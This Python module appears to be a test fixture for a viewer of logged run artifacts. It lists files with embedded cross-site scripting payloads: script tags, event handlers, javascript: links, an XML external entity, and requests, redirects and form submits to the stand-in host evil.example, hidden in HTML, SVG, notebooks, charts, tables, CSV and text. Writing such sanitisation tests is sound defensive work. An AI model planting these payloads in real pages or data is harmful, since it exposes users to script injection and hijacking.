"""Programs in what a run logs to be looked at: HTML, SVG, notebooks, figures, tables, samples, pictures that are none.

Each calls `alert`, leaves the page, or asks an address for something, where it is not shown as what it is: (file name, content).
"""

from __future__ import annotations

import json

_CALL = "alert(1)"
_ASK = "//evil.example/"
_IMAGE = f"<img src=x onerror={_CALL}>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}<rect width="9" height="9"/></svg>'


def _notebook(**output: object) -> str:
    cell = {
        "cell_type": "code",
        "source": f"<script>{_CALL}</script>",
        "outputs": [{"output_type": "display_data", "data": output}],
    }
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})


def _table(*rows: list[object]) -> str:
    columns = ["id", f"question {_IMAGE}", "question", "output", f"<b onclick={_CALL}>score"]
    return json.dumps({"columns": columns, "data": list(rows)})


def _plotly(**trace: object) -> str:
    layout = {
        "title": {"text": _IMAGE},
        "xaxis": {"title": f"</text>{_IMAGE}"},
        "images": [{"source": f"https:{_ASK}p.png"}],
    }
    return json.dumps({"data": [{"type": "scatter", "name": _IMAGE, **trace}], "layout": layout})


PAYLOADS: list[tuple[str, str]] = [
    ("a.html", f"<!doctype html><script>{_CALL}</script>"),
    ("b.html", f"<!doctype html><script>parent.document.body.innerHTML='';top.{_CALL}</script>"),
    ("c.html", f"<!doctype html>{_IMAGE}<svg onload={_CALL}>"),
    ("d.html", f"<!doctype html><meta http-equiv=refresh content='0;url=https:{_ASK}'>"),
    ("e.html", f"<!doctype html><script>fetch('https:{_ASK}')</script><img src='https:{_ASK}i.png'>"),
    ("f.html", f"<!doctype html><link rel=stylesheet href='https:{_ASK}c.css'><style>@import 'https:{_ASK}d.css'</style>"),
    ("g.html", f"<!doctype html><iframe src='https:{_ASK}'></iframe><object data='https:{_ASK}'></object>"),
    ("h.html", f"<!doctype html><form action='https:{_ASK}'><button autofocus>x</button></form><script>document.forms[0].submit()</script>"),
    ("i.html", f"<!doctype html><a href='https:{_ASK}' target=_top>x</a><script>document.links[0].click()</script>"),
    ("j.html", f"<!doctype html><base href='https:{_ASK}'><video src=v.mp4 autoplay></video><audio src=a.mp3 autoplay></audio>"),
    ("k.html", f"<html><head><meta http-equiv='Content-Security-Policy' content=\"default-src * 'unsafe-inline'\"></head><script>{_CALL}</script>"),
    ("l.html", f"<!doctype html><script>top.location='https:{_ASK}'</script><link rel=prefetch href='https:{_ASK}p'><link rel=dns-prefetch href='{_ASK}'>"),
    ("m.svg", _SVG.format(f"<script>{_CALL}</script>")),
    ("n.svg", _SVG.format(f"<image href='https:{_ASK}x.png'/><a xlink:href='javascript:{_CALL}'><text>x</text></a>")),
    ("o.svg", _SVG.format(f"<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml' onload='{_CALL}'/></foreignObject>")),
    ("p.svg", _SVG.format(f"<set attributeName='onmouseover' to='{_CALL}'/><animate onbegin='{_CALL}' attributeName='x' dur='1s'/>")),
    ("q.svg", f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'https:{_ASK}e'>]>" + _SVG.format("<text>&x;</text>")),
    ("r.png", f"<!doctype html><script>{_CALL}</script>"),
    ("s.wav", _SVG.format(f"<script>{_CALL}</script>")),
    ("t.ipynb", _notebook(**{"text/html": f"<script>{_CALL}</script>{_IMAGE}", "text/plain": _IMAGE})),
    ("u.ipynb", _notebook(**{"image/svg+xml": _SVG.format(f"<script>{_CALL}</script>"), "application/javascript": _CALL})),
    ("v.ipynb", _notebook(**{"text/markdown": f"[x](javascript:{_CALL})<script>{_CALL}</script>", "image/png": f"x\" onerror={_CALL} y=\""})),
    ("w.plotly.json", _plotly(x=[1, 2], y=[1, 2], text=[_IMAGE, _IMAGE])),
    ("x.plotly.json", _plotly(type="bar", x=[_IMAGE, "b"], y=[1, 2])),
    ("y.plotly.json", _plotly(type="heatmap", z=[[1, 2], [3, 4]], x=[_IMAGE, "</td><script>alert(1)</script>"], y=[_IMAGE, "b"])),
    ("z.json", json.dumps({"target_id": "x", "root_id": "p1", "doc": {"roots": [{"type": "object", "name": "CustomJS", "attributes": {"code": _CALL}}], "title": _IMAGE}})),
    ("confusion.json", json.dumps({"confusion_matrix": [[5, 1], [2, 7]], "labels": [_IMAGE, f"</script><script>{_CALL}</script>"]})),
    ("samples.json", _table(*[[f"{_IMAGE}{n}", "x", f"</textarea><script>{_CALL}</script>{n}", f"' onfocus={_CALL} autofocus x='", n % 2] for n in range(14)])),
    ("predictions.csv", "label,score,output,id\n" + "".join(f"{n % 2},0.{n},{_IMAGE},<script>{_CALL}</script>{n}\n" for n in range(10, 30))),
    ("roc.json", json.dumps({"columns": ["class", "fpr", "tpr"], "data": [[name, x, x] for name in (_IMAGE, f"<script>{_CALL}</script>") for x in (0, 0.5, 1)]})),
    ("table.json", json.dumps([{f"<script>{_CALL}</script>": _IMAGE, "b": f"javascript:{_CALL}"}, {"b": {"c": _IMAGE}}])),
    ("said.txt", f"{_IMAGE}\n</pre><script>{_CALL}</script>\n\x1b]8;;javascript:{_CALL}\x07x\x1b]8;;\x07"),
]  # fmt: skip
